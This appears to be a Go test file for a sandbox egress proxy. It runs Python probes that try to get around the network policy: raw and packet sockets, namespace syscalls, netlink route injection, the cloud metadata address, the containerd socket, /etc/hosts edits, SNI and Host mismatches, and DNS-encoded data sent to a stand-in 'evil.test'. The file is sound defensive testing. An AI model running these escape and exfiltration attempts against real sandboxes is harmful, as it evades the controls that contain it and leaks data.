@@ -1,0 +1,251 @@
+package proxy_test
+
+import (
+	"errors"
+	"fmt"
+	"net"
+	"strings"
+	"testing"
+
+	"github.com/securebench/sbench/proxy"
+)
+
+// A probe is Python that runs in the sandbox and finds that there is no way.
+type probe struct {
+	name, code string
+	want       string // part of the client's answer
+}
+
+// run makes the attempt, of which no proxy sees anything.
+func (p probe) run(t *testing.T, s *sandbox) {
+	s.t = t
+	if got := s.ask(ask{Code: p.code}); !strings.Contains(got, p.want) {
+		t.Errorf("got %s, want %s in it", got, p.want)
+	}
+}
+
+// datagram is code that sends to an address and waits for an answer.
+func datagram(family, address string) string {
+	return "import socket\ns = socket.socket(socket." + family + ", socket.SOCK_DGRAM)\ns.settimeout(2)\ns.connect(" + address + ")\ns.send(b'x')\nresult = 'reached ' + repr(s.recv(100))"
+}
+
+func open(arguments string) string {
+	return "import socket\nsocket.socket(" + arguments + ")\nresult = 'open'"
+}
+
+// callKernel is code that calls the C library and returns the error's name.
+func callKernel(call string) string {
+	return "import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\nn = libc." + call + "\nresult = 'open' if n >= 0 else errno.errorcode[ctypes.get_errno()]"
+}
+
+func namespaceProbes(abstract string) []probe {
+	const unreachable, refused, denied = "Network is unreachable", "Connection refused", "Operation not permitted"
+	return []probe{
+		{"no other interface", "import socket\nresult = [n for _, n in socket.if_nameindex()]", `{"result": ["lo"]}`},
+		{"no route", "result = [open('/proc/net/route').read().count('\\n'), [l.split()[9] for l in open('/proc/net/ipv6_route') if l.split()[9] != 'lo']]", `{"result": [1, []]}`},
+		{"TCP", "import socket\nsocket.create_connection(('93.184.216.34', 443), 2)\nresult = 'reached'", unreachable},
+		{"TCP by IPv6", "import socket\nsocket.create_connection(('2606:2800::1', 443), 2)\nresult = 'reached'", `"error"`},
+		{"TCP to the metadata", "import socket\nsocket.create_connection(('169.254.169.254', 80), 2)\nresult = 'reached'", unreachable},
+		{"TCP to the host's loopback", "import socket\nsocket.create_connection(('127.0.0.1', 22), 2)\nresult = 'reached'", refused},
+		{"UDP to a name server", datagram("AF_INET", "('8.8.8.8', 53)"), unreachable},
+		{"QUIC", datagram("AF_INET", "('1.1.1.1', 443)"), unreachable},
+		{"UDP by IPv6", datagram("AF_INET6", "('2606:4700::1111', 53)"), `"error"`},
+		{"multicast", datagram("AF_INET", "('224.0.0.251', 5353)"), unreachable},
+		{"broadcast", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.sendto(b'x', ('255.255.255.255', 67))\nresult = 'sent'", unreachable},
+		{"a name server on loopback", datagram("AF_INET", "('127.0.0.1', 53)"), refused},
+		{"a name", "import socket\nsocket.getaddrinfo('allowed.test', 443)\nresult = 'resolved'", "Temporary failure in name resolution"},
+		{"a raw socket", open("socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP"), denied},
+		{"a ping socket", open("socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP"), `"error"`},
+		{"a packet socket", open("socket.AF_PACKET, socket.SOCK_RAW"), denied},
+		{"vsock", open("socket.AF_VSOCK, socket.SOCK_STREAM"), denied},
+		{"XDP", open("44, socket.SOCK_RAW"), denied},
+		{"Bluetooth", open("31, socket.SOCK_RAW, 1"), denied},
+		{"the kernel's cryptography", open("38, socket.SOCK_SEQPACKET"), denied},
+		{"io_uring", callKernel("syscall(425, 8, ctypes.create_string_buffer(120))"), "EPERM"},
+		{"entering a network namespace", callKernel("setns(open('/proc/self/ns/net').fileno(), 0x40000000)"), "EPERM"},
+		{"a new network namespace", callKernel("unshare(0x40000000)"), "EPERM"},
+		{"an address of one's own", `import socket, struct
+s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+body = struct.pack('=BBBBi', 2, 32, 0, 0, 1) + struct.pack('=HH4s', 8, 2, bytes([10, 0, 0, 1]))
+s.send(struct.pack('=IHHII', 16 + len(body), 20, 0x605, 1, 0) + body)
+error = struct.unpack('=i', s.recv(4096)[16:20])[0]
+result = 'added' if error == 0 else 'refused %d' % error`, "refused -1"},
+		{"a route of one's own", `import socket, struct
+s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+body = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 253, 1, 0) + struct.pack('=HHI', 8, 4, 1)
+s.send(struct.pack('=IHHII', 16 + len(body), 24, 0x605, 1, 0) + body)
+error = struct.unpack('=i', s.recv(4096)[16:20])[0]
+result = 'added' if error == 0 else 'refused %d' % error`, "refused -1"},
+		{"an abstract socket of the host", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0" + abstract[1:] + "')\nresult = 'reached'", refused},
+		{"containerd's socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/containerd/containerd.sock')\nresult = 'reached'", `"error"`},
+	}
+}
+
+// TestNamespace looks for a way that avoids the proxy.
+func TestNamespace(t *testing.T) {
+	name := fmt.Sprintf("@sbench-egress-%p", t)
+	l, err := net.Listen("unix", name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = l.Close() }()
+	w := newWorld(t)
+	p, log := w.startProxy(proxy.Config{})
+	s := newSandbox(t, p, false)
+	for _, probe := range namespaceProbes(name) {
+		t.Run(probe.name, func(t *testing.T) { probe.run(t, s) })
+	}
+	s.t = t
+	log.none(t)
+	t.Run("an entry of one's own in hosts", func(t *testing.T) {
+		s.t = t
+		got := s.ask(ask{Code: "open('/etc/hosts', 'a').write('127.0.0.1 allowed.test\\n')\nresult = 'written'"})
+		r := row{ask: connect("evil.test:443", nil), log: []string{"connect deny host_not_allowed"}}
+		r.run(t, w, s, log)
+		t.Logf("writing /etc/hosts: %s", got)
+	})
+	s.t = t
+	t.Run("after the proxy's end", func(t *testing.T) {
+		s.t = t
+		report(t, p.Close())
+		if got := s.ask(connect("allowed.test:443", nil)); !strings.Contains(got, "Connection refused") {
+			t.Errorf("there is still a way out: %s", got)
+		}
+		if _, err := s.sockets.TCP[0].Accept(); !errors.Is(err, net.ErrClosed) {
+			t.Errorf("the listener is open: %v", err)
+		}
+		if err := p.Serve(s.sockets.TCP[0]); !errors.Is(err, proxy.ErrClosed) {
+			t.Errorf("a closed proxy serves: %v", err)
+		}
+	})
+	s.t = t
+}
+
+// TestTransparent lets programs that know of no proxy try.
+func TestTransparent(t *testing.T) {
+	w := newWorld(t)
+	p, log := w.startProxy(proxy.Config{Policy: proxy.Policy{Domains: domains(t, "allowed.test"), Ports: []uint16{80, 443, 8080}}})
+	s := newSandbox(t, p, true)
+	// look asks for an address and then does something with it.
+	look := func(name string) string {
+		s.t = t
+		got := s.ask(ask{Code: "import socket\nresult = socket.gethostbyname(" + fmt.Sprintf("%q", name) + ")"})
+		if e := log.next(t); words(e) != "dns allow" || e.Host != name {
+			t.Fatalf("%+v", e)
+		}
+		_, address, _ := strings.Cut(strings.TrimSuffix(strings.TrimSpace(got), `"}`), `: "`)
+		return address
+	}
+	one, two := look("allowed.test"), look("two.allowed.test")
+	if again := look("allowed.test"); again != one || one == two || !strings.HasPrefix(one, "198.18.") {
+		t.Fatalf("addresses %q, %q, %q", one, two, again)
+	}
+	to := func(address string, port int, a ask) ask {
+		a.To = []any{address, port}
+		return a
+	}
+	tls := func(sni *string) ask { return ask{TLS: &askTLS{SNI: sni, Host: "allowed.test"}} }
+	allowed, evil, second := "allowed.test", "evil.test", "two.allowed.test"
+	rows := []row{
+		{name: "TLS", ask: to(one, 443, tls(&allowed)), log: []string{"transparent allow"}, reached: []string{public + ":443"}, answer: "HIT host=allowed.test sni=allowed.test"},
+		{name: "TLS in single bytes", ask: to(two, 443, ask{TLS: &askTLS{SNI: &second, Host: second, Split: true}}), log: []string{"transparent allow"}, reached: []string{public + ":443"}, answer: "HIT host=two.allowed.test"},
+		{name: "TLS for another host", ask: to(one, 443, tls(&evil)), log: []string{"transparent deny sni_mismatch"}, answer: "ACCESS_DENIED"},
+		{name: "TLS for another host that is allowed", ask: to(one, 443, tls(&second)), log: []string{"transparent deny sni_mismatch"}, answer: "ACCESS_DENIED"},
+		{name: "TLS without a name", ask: to(one, 443, tls(nil)), log: []string{"transparent deny sni_missing"}, answer: "ACCESS_DENIED"},
+		{name: "plain HTTP on 443", ask: to(one, 443, get("GET / HTTP/1.1", "Host: allowed.test")), log: []string{"transparent deny not_tls"}},
+		{name: "plain HTTP", ask: to(one, 80, get("GET /x HTTP/1.1", "Host: allowed.test", "Connection: close")), log: []string{"transparent allow"}, reached: []string{public + ":80"}, answer: "HIT host=allowed.test"},
+		{name: "plain HTTP for another host", ask: to(one, 80, get("GET / HTTP/1.1", "Host: evil.test")), log: []string{"transparent deny host_mismatch"}, answer: "host_mismatch"},
+		{name: "plain HTTP for another host that is allowed", ask: to(one, 80, get("GET / HTTP/1.1", "Host: two.allowed.test")), log: []string{"transparent deny host_mismatch"}, answer: "host_mismatch"},
+		{name: "plain HTTP for another port", ask: to(one, 80, get("GET / HTTP/1.1", "Host: allowed.test:8080")), log: []string{"transparent deny host_mismatch"}, answer: "host_mismatch"},
+		{name: "plain HTTP for an address", ask: to(one, 80, get("GET / HTTP/1.1", "Host: 169.254.169.254")), log: []string{"transparent deny ip_literal"}, answer: "ip_literal"},
+		{name: "an absolute URL for another host", ask: to(one, 80, get("GET http://evil.test/ HTTP/1.1", "Host: allowed.test")), log: []string{"transparent deny host_mismatch"}, answer: "host_mismatch"},
+		{name: "CONNECT", ask: to(one, 80, get("CONNECT allowed.test:443 HTTP/1.1", "Host: allowed.test")), log: []string{"transparent deny not_a_proxy_request"}},
+		{name: "a second host on the same connection", ask: to(one, 80, ask{Send: []string{"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"}, Responses: 2}),
+			log: []string{"transparent allow", "transparent deny host_mismatch"}, answer: "host_mismatch"},
+		{name: "not HTTP", ask: to(one, 80, ask{Send: []string{"SSH-2.0-x\r\n\r\n"}, Responses: 1}), log: []string{"malformed deny malformed_request"}, answer: "malformed_request"},
+		{name: "another port", ask: to(one, 22, ask{Send: []string{"x"}, Responses: 1}), log: []string{"transparent deny port_not_allowed"}},
+		{name: "an address that nobody asked for", ask: to("198.18.200.200", 443, tls(&allowed)), log: []string{"transparent deny ip_literal"}, address: "198.18.200.200"},
+	}
+	for _, r := range rows {
+		t.Run(r.name, func(t *testing.T) {
+			if strings.Contains(r.log[0], "allow") && r.ask.TLS == nil {
+				r.reached = nil
+				w.run(t, r, s, log)
+				return
+			}
+			r.run(t, w, s, log)
+		})
+	}
+	s.t = t
+}
+
+// run is for rows whose connection to the host may have stood before.
+func (w *world) run(t *testing.T, r row, s *sandbox, log *book) {
+	s.t = t
+	got := s.ask(r.ask)
+	for _, want := range r.log {
+		if e := log.next(t); words(e) != want {
+			t.Errorf("log: %q, want %q; the client got %s", words(e), want, got)
+		}
+	}
+	if !strings.Contains(got, r.answer) {
+		t.Errorf("the client got %s, want %s in it", got, r.answer)
+	}
+	w.takeReached()
+}
+
+// TestTransparentNames asks the name server.
+func TestTransparentNames(t *testing.T) {
+	w := newWorld(t)
+	p, log := w.startProxy(proxy.Config{})
+	s := newSandbox(t, p, true)
+	tests := []struct{ name, code, want, log string }{
+		{"another name", "import socket\nsocket.gethostbyname('evil.test')", "Name or service not known", "dns deny host_not_allowed"},
+		{"data in a name", "import socket\nsocket.gethostbyname('c2VjcmV0.evil.test')", "Name or service not known", "dns deny host_not_allowed"},
+		{"IPv6 alone", "import socket\nsocket.getaddrinfo('allowed.test', 443, socket.AF_INET6)", "No address associated with hostname", "dns allow"},
+		{"HTTPS records", dnsCode("allowed.test", 65), `"result": [0, 0]`, "dns allow"},
+		{"TXT", dnsCode("allowed.test", 16), `"result": [0, 0]`, "dns allow"},
+		{"ANY", dnsCode("allowed.test", 255), `"result": [0, 0]`, "dns allow"},
+		{"TXT of another", dnsCode("x.evil.test", 16), `"result": [3, 0]`, "dns deny host_not_allowed"},
+		{"a name with a NUL", dnsCode("allowed.test\\0.evil", 1), `"result": [`, "dns deny "},
+		{"UDP to the address", "import socket\na = socket.gethostbyname('allowed.test')\n" + datagram("AF_INET", "(a, 443)"), "Connection refused", "dns allow"},
+		{"a server of one's own on port 80", "import socket\ns = socket.create_server(('127.0.0.1', 80))\nresult = 'bound'", "bound", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s.t = t
+			got := s.ask(ask{Code: tt.code})
+			if tt.name == "a server of one's own on port 80" && s.sockets.AnyAddress {
+				t.Log("no nftables: not possible")
+				return
+			}
+			if !strings.Contains(got, tt.want) {
+				t.Errorf("got %s, want %s in it", got, tt.want)
+			}
+			if tt.log == "" {
+				return
+			}
+			if e := log.next(t); !strings.HasPrefix(words(e), tt.log) {
+				t.Errorf("log: %+v, want %q", e, tt.log)
+			}
+		})
+	}
+	s.t = t
+	if _, names := w.takeReached(); len(names) != 0 {
+		t.Errorf("the host's name server was asked for %v", names)
+	}
+}
+
+// dnsCode asks 127.0.0.1 by TCP for records of a type, and returns the answer's
+// code and number of records.
+func dnsCode(name string, kind int) string {
+	return fmt.Sprintf(`import socket, struct
+name = b''.join(bytes([len(l)]) + l for l in %q.encode().split(b'.')) + b'\0'
+q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', %d, 1)
+s = socket.create_connection(('127.0.0.1', 53), 5)
+s.sendall(struct.pack('>H', len(q)) + q)
+f = s.makefile('rb')
+a = f.read(struct.unpack('>H', f.read(2))[0])
+head = struct.unpack('>HHHHHH', a[:12])
+result = [head[1] & 15, head[3]]`, name, kind)
+}
